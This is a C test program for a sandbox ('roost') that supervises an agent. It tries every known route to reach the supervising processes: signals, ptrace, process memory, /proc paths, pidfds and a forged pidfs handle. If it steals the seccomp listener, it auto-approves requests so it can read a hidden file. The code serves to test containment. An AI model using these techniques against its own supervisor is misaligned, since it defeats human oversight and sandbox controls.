/* supervisor_attack DENIED: tries every way this program knows to reach the roost processes
 * that supervise it, then to read DENIED, a file the mount list hides.
 *
 * roost's ids come from two places: the program's parent (the agent, when roost runs it
 * directly), and a line on standard input from the test, which knows the front, the agent
 * and the agent's threads ("P:front P:agent A:agent T:tid T:tid ..."). The program prints
 * "ready" first, so the test reads the agent's threads once the program runs (and so once
 * roost's notification threads do). (It never looks for roost by name: other roost
 * processes on the machine are not its to probe.)
 *
 * Probes: signals (kill, tkill, tgkill, rt_*sigqueueinfo, a real SIGSTOP), file owners
 * (F_SETOWN, F_SETOWN_EX, FIOSETOWN), ptrace (seize, attach), memory (process_vm_*), kcmp,
 * get_robust_list, prlimit64, /proc files by several spellings, pidfds (pidfd_open, a
 * forged pidfs handle, /proc/PID as one) and what they give (pidfd_getfd of descriptors
 * 0-63, pidfd_send_signal, process_madvise), a socket's peer as a pidfd.
 *
 * One line a probe: "PROBE TARGET RESULT", RESULT "ok" when the probe reached roost (or a
 * count of what it took, "ok N"), else the errno's name. The last line, "denied 0 RESULT",
 * is the outcome of reading DENIED after every probe. Signals are sent as 0 (permission
 * only), but SIGSTOP is sent for real, followed at once by SIGCONT. A probe that reaches roost is
 * undone where it can be (a seized process is detached, a descriptor taken is closed); one
 * that took roost's seccomp listener is used: a thread answers every notification with
 * CONTINUE while the program opens DENIED 2,000 times ("steal-listener TARGET ok N"). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef PIDFD_THREAD
#define PIDFD_THREAD O_EXCL
#endif
#ifndef SO_PEERPIDFD
#define SO_PEERPIDFD 77
#endif
#define KCMP_FILE 0

static const char *denied;

static const char *err_name(int e) {
    switch (e) {
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ESRCH: return "ESRCH";
    case ENOENT: return "ENOENT";
    case EINVAL: return "EINVAL";
    case EFAULT: return "EFAULT";
    case EBADF: return "EBADF";
    case ENOSYS: return "ENOSYS";
    case ESTALE: return "ESTALE";
    case ENOPROTOOPT: return "ENOPROTOOPT";
    case ENOMEM: return "ENOMEM";
    case EIO: return "EIO";
    default: {
        static char buf[32];
        snprintf(buf, sizeof buf, "E%d", e);
        return buf;
    }
    }
}

static void say(const char *probe, int target, long rc, int e) {
    if (rc < 0)
        printf("%s %d %s\n", probe, target, err_name(e));
    else
        printf("%s %d ok\n", probe, target);
}

/* Makes call EXPR, then says its outcome (errno read after the call). */
#define PROBE(probe, target, expr)                                                         \
    do {                                                                                   \
        long rc_ = (expr);                                                                 \
        say(probe, target, rc_, errno);                                                    \
    } while (0)

/* What descriptor `fd` of this process is, from its /proc/self/fd link. */
static void fd_name(int fd, char *out, size_t size) {
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, out, size - 1);
    out[n < 0 ? 0 : n] = 0;
}

/* ---- Using a stolen listener ---- */

static int stolen = -1;

static void *answer_continue(void *unused) {
    (void)unused;
    for (;;) {
        struct seccomp_notif req;
        memset(&req, 0, sizeof req);
        if (ioctl(stolen, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) {
            if (errno == EINTR || errno == ENOENT)
                continue;
            return NULL;
        }
        struct seccomp_notif_resp resp;
        memset(&resp, 0, sizeof resp);
        resp.id = req.id;
        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
        ioctl(stolen, SECCOMP_IOCTL_NOTIF_SEND, &resp);
    }
}

static void use_listener(int target, int fd) {
    stolen = fd;
    pthread_t t;
    pthread_create(&t, NULL, answer_continue, NULL);
    int read_it = 0;
    for (int i = 0; i < 2000; i++) {
        int f = open(denied, O_RDONLY);
        if (f >= 0) {
            char c;
            read_it += read(f, &c, 1) == 1;
            close(f);
        }
    }
    printf("steal-listener %d ok %d\n", target, read_it);
}

/* ---- Probes through a pidfd ---- */

/* Takes descriptors 0..63 of the process behind `pidfd`: "ok N" for N taken; a seccomp
 * listener among them is used. */
static void take_fds(const char *probe, int target, int pidfd) {
    int taken = 0, last_errno = 0, listener = -1;
    for (int fd = 0; fd < 64; fd++) {
        int mine = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (mine < 0) {
            if (errno != EBADF)
                last_errno = errno;
            continue;
        }
        taken++;
        char name[256];
        fd_name(mine, name, sizeof name);
        if (strstr(name, "seccomp") && listener < 0)
            listener = mine;
        else
            close(mine);
    }
    if (taken)
        printf("%s %d ok %d\n", probe, target, taken);
    else
        printf("%s %d %s\n", probe, target, err_name(last_errno ? last_errno : EBADF));
    if (listener >= 0)
        use_listener(target, listener);
}

static void through_pidfd(const char *how, int target, int pidfd) {
    char probe[64];
    snprintf(probe, sizeof probe, "%s-pidfd_getfd", how);
    take_fds(probe, target, pidfd);
    snprintf(probe, sizeof probe, "%s-pidfd_send_signal", how);
    long rc = syscall(SYS_pidfd_send_signal, pidfd, 0, NULL, 0);
    PROBE(probe, target, rc);
    struct iovec iov = {.iov_base = (void *)0x10000, .iov_len = 4096};
    snprintf(probe, sizeof probe, "%s-process_madvise", how);
    rc = syscall(SYS_process_madvise, pidfd, &iov, 1, MADV_COLD, 0);
    /* ENOMEM: permitted, the range just is not mapped there. */
    PROBE(probe, target, rc);
}

/* A pidfd of `target` from a forged pidfs file handle: the pidfs inode numbers of this
 * program's own pidfd, counted down (roost's processes were made shortly before). */
static int pidfd_by_handle(int target, int *why) {
    struct {
        unsigned int bytes;
        int type;
        unsigned char f[128];
    } h = {.bytes = 128};
    int mount_id;
    int self = syscall(SYS_pidfd_open, getpid(), 0);
    *why = ESRCH;
    if (self < 0 || name_to_handle_at(self, "", (void *)&h, &mount_id, AT_EMPTY_PATH) != 0 ||
        h.bytes < 8) {
        *why = errno;
        return -1;
    }
    unsigned long long ino;
    memcpy(&ino, h.f, 8);
    for (unsigned long long k = 1; k < 2000 && k < ino; k++) {
        unsigned long long guess = ino - k;
        memcpy(h.f, &guess, 8);
        int fd = open_by_handle_at(self, (void *)&h, O_RDONLY);
        if (fd < 0) {
            if (errno != ESTALE)
                *why = errno;
            continue;
        }
        char path[64], info[1024] = {0};
        snprintf(path, sizeof path, "/proc/self/fdinfo/%d", fd);
        int f = open(path, O_RDONLY);
        if (f >= 0) {
            if (read(f, info, sizeof info - 1) < 0)
                info[0] = 0;
            close(f);
        }
        char *pid = strstr(info, "Pid:");
        if (pid && atoi(pid + 4) == target) {
            close(self);
            return fd;
        }
        close(fd);
    }
    close(self);
    return -1;
}

/* ---- Probes by id ---- */

static void signals(int target, int tgid, int process) {
    PROBE("kill", target, kill(target, 0));
    PROBE("tkill", target, syscall(SYS_tkill, target, 0));
    PROBE("tgkill", target, syscall(SYS_tgkill, tgid, target, 0));
    siginfo_t info;
    memset(&info, 0, sizeof info);
    info.si_code = SI_QUEUE;
    info.si_pid = getpid();
    info.si_uid = getuid();
    PROBE("rt_sigqueueinfo", target, syscall(SYS_rt_sigqueueinfo, target, 0, &info));
    PROBE("rt_tgsigqueueinfo", target,
          syscall(SYS_rt_tgsigqueueinfo, tgid, target, 0, &info));
    if (process) {
        long rc = kill(target, SIGSTOP);
        int e = errno;
        kill(target, SIGCONT);
        say("kill-SIGSTOP", target, rc, e);
    }
}

static void ptraces(int target) {
    int status;
    long rc = ptrace(PTRACE_SEIZE, target, 0, 0);
    int e = errno;
    if (rc == 0) {
        ptrace(PTRACE_INTERRUPT, target, 0, 0);
        waitpid(target, &status, __WALL);
        ptrace(PTRACE_DETACH, target, 0, 0);
    }
    say("ptrace-seize", target, rc, e);
    rc = ptrace(PTRACE_ATTACH, target, 0, 0);
    e = errno;
    if (rc == 0) {
        waitpid(target, &status, __WALL);
        ptrace(PTRACE_DETACH, target, 0, 0);
    }
    say("ptrace-attach", target, rc, e);
}

/* Makes roost the process a file's signals go to (with O_ASYNC and F_SETSIG, any
 * signal, SIGKILL included, whenever the file is ready). Nothing is made ready here. */
static void owners(int target, int thread) {
    int p[2], sv[2];
    if (pipe(p) != 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, sv) != 0)
        return;
    PROBE("fcntl-setown", target, fcntl(p[0], F_SETOWN, target));
    struct f_owner_ex owner = {.type = thread ? F_OWNER_TID : F_OWNER_PID, .pid = target};
    PROBE("fcntl-setown_ex", target, fcntl(p[0], F_SETOWN_EX, &owner));
    int who = target;
    PROBE("ioctl-fiosetown", target, ioctl(sv[0], FIOSETOWN, &who));
    close(p[0]);
    close(p[1]);
    close(sv[0]);
    close(sv[1]);
}

/* The start of the first mapping of `target`, when its maps can be read. */
static unsigned long first_mapping(int target) {
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/maps", target);
    FILE *f = fopen(path, "r");
    unsigned long start = 0x400000;
    if (f) {
        if (fgets(line, sizeof line, f))
            start = strtoul(line, NULL, 16);
        fclose(f);
    }
    return start;
}

static void memory(int target) {
    char buf[8];
    unsigned long at = first_mapping(target);
    struct iovec local = {.iov_base = buf, .iov_len = sizeof buf};
    struct iovec remote = {.iov_base = (void *)at, .iov_len = sizeof buf};
    long rc = process_vm_readv(target, &local, 1, &remote, 1, 0);
    int e = errno;
    say("process_vm_readv", target, rc, e);
    /* Writes back what was read, or to an address mapped nowhere (EFAULT when permitted). */
    if (rc != (long)sizeof buf)
        remote.iov_base = (void *)0x1000;
    rc = process_vm_writev(target, &local, 1, &remote, 1, 0);
    PROBE("process_vm_writev", target, rc);
    PROBE("kcmp", target, syscall(SYS_kcmp, getpid(), target, KCMP_FILE, 0, 0));
    void *head;
    size_t len;
    PROBE("get_robust_list", target, syscall(SYS_get_robust_list, target, &head, &len));
    struct rlimit old;
    PROBE("prlimit64", target, syscall(SYS_prlimit64, target, RLIMIT_NOFILE, NULL, &old));
}

/* Opens `path` (read-only, or as a directory); "ok" when it opened. */
static void open_probe(const char *probe, int target, const char *path, int flags) {
    int fd = open(path, flags);
    PROBE(probe, target, fd);
    if (fd >= 0)
        close(fd);
}

static void proc_files(int target, int agent, const char *scratch) {
    char path[1024];
    snprintf(path, sizeof path, "/proc/%d/mem", target);
    open_probe("proc-mem", target, path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/%d/environ", target);
    open_probe("proc-environ", target, path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/%d/status", target);
    open_probe("proc-status", target, path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/self/../%d/mem", target);
    open_probe("proc-dotdot-mem", target, path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/%d/task/%d/mem", agent, target);
    open_probe("proc-task-mem", target, path, O_RDONLY);
    snprintf(path, sizeof path, "/proc/%d/task/%d/mem", target, target);
    open_probe("proc-own-task-mem", target, path, O_RDONLY);
    int proc = open("/proc", O_RDONLY | O_DIRECTORY);
    snprintf(path, sizeof path, "%d/mem", target);
    int fd = openat(proc, path, O_RDONLY);
    PROBE("proc-openat-mem", target, fd);
    if (fd >= 0)
        close(fd);
    close(proc);
    /* A symlink of the program's own, pointing into roost's /proc directory. */
    char link[512], to[64];
    snprintf(link, sizeof link, "%s/link-%d", scratch, target);
    snprintf(to, sizeof to, "/proc/%d", target);
    if (symlink(to, link) == 0) {
        snprintf(path, sizeof path, "%s/mem", link);
        open_probe("proc-symlink-mem", target, path, O_RDONLY);
        unlink(link);
    }
    /* Its descriptors, by their /proc links. */
    int opened = 0, last_errno = ENOENT, named = 0, name_errno = ENOENT;
    for (int n = 0; n < 64; n++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", target, n);
        int f = open(path, O_RDONLY | O_NONBLOCK);
        if (f >= 0) {
            opened++;
            close(f);
        } else if (errno != ENOENT) {
            last_errno = errno;
        }
        char name[256];
        if (readlink(path, name, sizeof name) >= 0)
            named++;
        else if (errno != ENOENT)
            name_errno = errno;
    }
    if (opened)
        printf("proc-fd %d ok %d\n", target, opened);
    else
        printf("proc-fd %d %s\n", target, err_name(last_errno));
    if (named)
        printf("proc-fd-readlink %d ok %d\n", target, named);
    else
        printf("proc-fd-readlink %d %s\n", target, err_name(name_errno));
    /* Its /proc directory, which pidfd_send_signal takes as a pidfd. */
    snprintf(path, sizeof path, "/proc/%d", target);
    int dir = open(path, O_RDONLY | O_DIRECTORY);
    PROBE("proc-dir", target, dir);
    if (dir >= 0) {
        PROBE("proc-dir-pidfd_send_signal", target,
              syscall(SYS_pidfd_send_signal, dir, 0, NULL, 0));
        close(dir);
    }
}

static void pidfds(int target, int process) {
    int fd = syscall(SYS_pidfd_open, target, process ? 0 : PIDFD_THREAD);
    PROBE(process ? "pidfd_open" : "pidfd_open-thread", target, fd);
    if (fd >= 0) {
        through_pidfd("open", target, fd);
        close(fd);
    }
    if (process) {
        int why;
        fd = pidfd_by_handle(target, &why);
        say("pidfs-handle", target, fd, why);
        if (fd >= 0) {
            through_pidfd("handle", target, fd);
            close(fd);
        }
    }
}

/* ---- Finding roost ---- */

#define MAX_IDS 256
static int procs[MAX_IDS], nprocs, threads[MAX_IDS], nthreads;

static void add(int *set, int *n, int id) {
    if (id <= 1 || id == getpid())
        return;
    for (int i = 0; i < *n; i++)
        if (set[i] == id)
            return;
    if (*n < MAX_IDS)
        set[(*n)++] = id;
}

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: %s DENIED\n", argv[0]);
        return 2;
    }
    denied = argv[1];
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("ready\n");
    char line[4096];
    if (!fgets(line, sizeof line, stdin))
        line[0] = 0;
    int agent = getppid();
    for (char *w = strtok(line, " \n"); w; w = strtok(NULL, " \n")) {
        if (w[0] == 'P' && w[1] == ':')
            add(procs, &nprocs, atoi(w + 2));
        else if (w[0] == 'T' && w[1] == ':')
            add(threads, &nthreads, atoi(w + 2));
        else if (w[0] == 'A' && w[1] == ':')
            agent = atoi(w + 2);
    }
    add(procs, &nprocs, getppid());
    char scratch[] = "/tmp/roost-attack-XXXXXX";
    if (!mkdtemp(scratch))
        strcpy(scratch, "/tmp");
    for (int i = 0; i < nprocs; i++) {
        int p = procs[i];
        signals(p, p, 1);
        owners(p, 0);
        ptraces(p);
        memory(p);
        proc_files(p, p, scratch);
        pidfds(p, 1);
    }
    for (int i = 0; i < nthreads; i++) {
        int t = threads[i];
        signals(t, agent, 0);
        owners(t, 1);
        ptraces(t);
        memory(t);
        proc_files(t, agent, scratch);
        pidfds(t, 0);
    }
    /* A socket's peer as a pidfd (roost is the peer of a direct-mode file's placeholder
     * socket; here the program's own pair stands for one). */
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) == 0) {
        int peer = -1;
        socklen_t len = sizeof peer;
        PROBE("socket-peerpidfd", 0, getsockopt(sv[0], SOL_SOCKET, SO_PEERPIDFD, &peer, &len));
    }
    rmdir(scratch);
    int f = open(denied, O_RDONLY);
    if (f >= 0) {
        char c;
        printf("denied 0 %s\n", read(f, &c, 1) == 1 ? "ok" : "EIO");
    } else {
        printf("denied 0 %s\n", err_name(errno));
    }
    fflush(stdout);
    _exit(0);
}
